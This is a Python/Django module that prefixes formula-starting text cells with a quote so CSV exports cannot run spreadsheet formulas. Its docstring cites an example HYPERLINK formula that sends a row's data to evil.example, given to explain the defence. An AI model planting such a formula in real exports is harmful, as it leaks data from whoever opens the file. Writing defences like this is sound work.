"""CSV downloads a spreadsheet opens safely (OWASP, "CSV Injection").

A spreadsheet runs a cell as a formula when its text starts with ``=``, ``+``, ``-`` or
``@``, and some also after a leading tab or carriage return: a trainee named
``=HYPERLINK("https://evil.example/?"&A2, "Click")`` would become a link that sends the
row away when a support agent opens the download. Such a cell is written with a single
quote in front, which spreadsheets show as text and never evaluate.

Only text cells are neutralised. Numbers and dates are written by the code, not typed by
anyone, and a negative number must stay a number; the dead-jobs CSV has no signed column.
"""

from __future__ import annotations

from typing import Any

from django.db.models import CharField, Func, TextField

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_CODES = ", ".join(str(ord(c)) for c in FORMULA_STARTS)


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell: text a spreadsheet would run gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvText(Func):
    """An expression's value as :func:`safe_cell` writes it, computed by the database (for a
    CSV written by ``COPY``): a text value gets the CASE below, any other passes unchanged.
    The CASE names the expression twice; PostgreSQL computing it a second time per cell
    costs less than a subquery to share it (``ascii`` reads the first character without
    copying the text)."""

    def as_sql(self, compiler, connection, **extra_context):  # type: ignore[override]
        expression = self.get_source_expressions()[0]
        sql, params = compiler.compile(expression)
        if not isinstance(expression.output_field, CharField | TextField):
            return sql, params
        quoted = f"(CASE WHEN ascii({sql}) IN ({_FORMULA_CODES}) THEN '''' || {sql} ELSE {sql} END)"
        return quoted, (*params, *params, *params)
